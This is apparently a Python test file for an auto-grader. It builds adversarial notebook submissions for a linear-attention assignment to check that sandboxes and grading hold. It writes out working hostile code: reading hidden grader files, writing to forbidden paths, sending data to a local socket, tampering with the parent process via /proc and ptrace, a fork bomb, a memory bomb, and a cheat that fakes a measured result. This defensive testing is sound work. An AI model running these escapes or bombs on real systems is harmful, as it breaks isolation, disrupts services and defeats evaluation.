"""Hostile submissions of the second assignment, linear_attention_hyena (functions, not a class).

Each attack is the master notebook with one scaffold function wrapped: the wrapper first
does something hostile, then (unless the attack is the function itself misbehaving) returns
what the honest function returns. So an escape attempt that fails costs nothing, and one
that succeeded would show: the wrapper raises with what it reached, which fails an item.
:data:`ATTACKS` maps a submission id to (builder, the items it must lose).

The notebook of this assignment runs in seconds, so each submission is the whole master:
its demo cells call the same functions in the notebook run that the probe calls in its
workers, and every attack is tried in both sandboxes.
"""
from __future__ import annotations

import copy
import textwrap
from collections.abc import Callable
from pathlib import Path

import nbformat

from adversarial import Targets   # the same aims as linear_attention's attacks
from grader import cells


Build = Callable[[Targets], nbformat.NotebookNode]
ATTACKS: dict[str, tuple[Build, frozenset[str]]] = {}


def attack(*loses: str) -> Callable[[Build], Build]:
    def register(build: Build) -> Build:
        ATTACKS[build.__name__] = (build, frozenset(loses))
        return build
    return register


def wrapped(master: nbformat.NotebookNode, function: str, before: str, *, prelude: str = "",
            honest: bool = True) -> nbformat.NotebookNode:
    """The master with ``function`` redefined at the end of its scaffold cell: ``before`` runs
    first, then the honest function's result is returned (``honest=False``: ``before`` is the
    whole body). ``prelude`` goes above, at the cell's top level. The written answers are the
    template's (blank): the reference answers are hidden material a leak test looks for."""
    notebook = copy.deepcopy(master)
    for cell in notebook.cells:
        if cells.QUESTION in cells.tags(cell):
            question = cells.parse_written_answer(cell)
            cell.source = f'"""Question: {question.question}"""\n\n"""Answer: """\n' if question else ""
    cell = next(c for c in notebook.cells if cells.SCAFFOLD in cells.tags(c) and f"def {function}(" in cells.source(c))
    body = textwrap.indent(textwrap.dedent(before).strip(), "    ")
    tail = f"\n    return _honest_{function}(*args, **kwargs)" if honest else ""
    cell.source = (cells.source(cell) + "\n\n" + textwrap.dedent(prelude).strip() + "\n\n"
                   + f"_honest_{function} = {function}\n\n\n"
                   + f"def {function}(*args, **kwargs):\n{body}{tail}\n")
    return notebook


@attack()
def escape_reads(t: Targets) -> nbformat.NotebookNode:
    """Reads the hidden checks, the master, the rubric and another submission; imports the checks."""
    paths = [str(p) for p in (*t.secrets, t.honest_notebook)]
    return wrapped(t.master, "fft_causal_conv", f"""
        found = []
        for path in {paths!r}:
            try:
                with open(path, "rb") as handle:
                    found.append(f"READ {{path}}: {{handle.read(200)!r}}")
            except OSError:
                pass
        try:
            import grader.checks.linear_attention_hyena as hidden
            found.append("IMPORTED " + hidden.__file__)
        except Exception:
            pass
        if found:
            raise RuntimeError(" | ".join(found))
    """)


@attack()
def escape_writes(t: Targets) -> nbformat.NotebookNode:
    """Writes into the out dir, another submission, the repository and /work/shared (each must
    be refused in both sandboxes); the host's canary, /tmp and /dev/shm (private or read-only
    there; the test checks the host's canary); TCP and UDP to the host."""
    refused = [str(p) for p in (t.out_dir / "planted.txt", t.out_dir / "honest" / "results.json",
                                t.honest_notebook, t.secrets[0].parent / "planted.py",
                                Path("/work/shared/planted.txt"))]
    quiet = [str(p) for p in (t.canary, Path("/tmp/planted.txt"), Path("/dev/shm/planted.txt"))]
    return wrapped(t.master, "gla_recurrent", f"""
        import socket
        done = []
        for path in {refused!r} + {quiet!r}:
            try:
                with open(path, "a") as handle:
                    handle.write("PLANTED")
                if path in {refused!r}:
                    done.append("WROTE " + path)
            except OSError:
                pass
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            try:
                with socket.socket(socket.AF_INET, kind) as s:
                    s.settimeout(2)
                    s.connect(("127.0.0.1", {t.port}))
                    s.send(b"EXFIL")
                    if kind == socket.SOCK_STREAM:
                        done.append("CONNECTED")
            except OSError:
                pass
        if done:
            raise RuntimeError(" | ".join(done))
    """)


@attack()
def reach_the_supervisor(t: Targets) -> nbformat.NotebookNode:
    """Forged frames on every descriptor of the parent (the probe supervisor, the notebook
    driver), its memory, ptrace; then honest."""
    return wrapped(t.master, "retnet_decay_mask", """
        import ctypes, json, os, struct
        record = json.dumps({"case": "import", "segment": None, "status": "ok"}).encode()
        frame = struct.pack(">Q", len(record)) + record + struct.pack(">Q", 0)
        reached = []
        for fd in range(64):
            try:
                with open(f"/proc/{os.getppid()}/fd/{fd}", "wb") as handle:
                    handle.write(frame)
                reached.append(f"parent fd {fd}")
            except OSError:
                pass
        try:
            open(f"/proc/{os.getppid()}/mem", "rb").close()
            reached.append("parent memory")
        except OSError:
            pass
        try:   # the probe's workers may not load ctypes at all
            if ctypes.CDLL(None, use_errno=True).ptrace(16, os.getppid(), 0, 0) == 0:
                reached.append("ptrace")
        except PermissionError:
            pass
        if reached:
            raise RuntimeError("REACHED " + ", ".join(reached))
    """)


@attack("toeplitz_oracle", "notebook_runs")
def hang_in_one_function(t: Targets) -> nbformat.NotebookNode:
    """The Toeplitz oracle never returns: its cases hang, every other function is graded."""
    return wrapped(t.master, "toeplitz_causal_conv", "while True:\n    pass", honest=False)


@attack("retnet_mask", "notebook_runs")
def sleep_in_one_function(t: Targets) -> nbformat.NotebookNode:
    """The RetNet mask sleeps: it uses no CPU, so no CPU limit stops it; its cell and its cases
    are stopped as hung after the idle limit, and neither stage is graded again."""
    return wrapped(t.master, "retnet_decay_mask", "import time\ntime.sleep(3600)", honest=False)


@attack("gla_mask", "notebook_runs")
def exit_in_one_function(t: Targets) -> nbformat.NotebookNode:
    """The GLA mask kills its own process."""
    return wrapped(t.master, "gla_decay_mask", "import os\nos._exit(3)", honest=False)


@attack("softmax_baseline", "notebook_runs")
def fork_bomb_in_one_function(t: Targets) -> nbformat.NotebookNode:
    """The softmax baseline forks without bound."""
    return wrapped(t.master, "softmax_recall_error", """
        import os
        while True:
            try:
                os.fork()
            except OSError:
                pass
    """, honest=False)


@attack("fft_cyclic", "notebook_runs")
def memory_bomb_in_one_function(t: Targets) -> nbformat.NotebookNode:
    """The cyclic convolution allocates far past the memory limit."""
    return wrapped(t.master, "fft_cyclic_conv", """
        hog = []
        while True:
            hog.append(bytearray(256 * 2**20))
    """, honest=False)


@attack("capacity_random")
def capacity_from_the_formula(t: Targets) -> nbformat.NotebookNode:
    """The capacity curve typed in from the chapter's formula instead of measured."""
    return wrapped(t.master, "capacity_curve", """
        Ks, d_k = args[0], args[1]
        key_kind = kwargs.get("key_kind", args[3] if len(args) > 3 else "random")
        if key_kind == "orthonormal":
            return torch.zeros(len(Ks), dtype=torch.float64)
        return torch.tensor([math.sqrt((K - 1) / d_k) for K in Ks], dtype=torch.float64)
    """, honest=False)
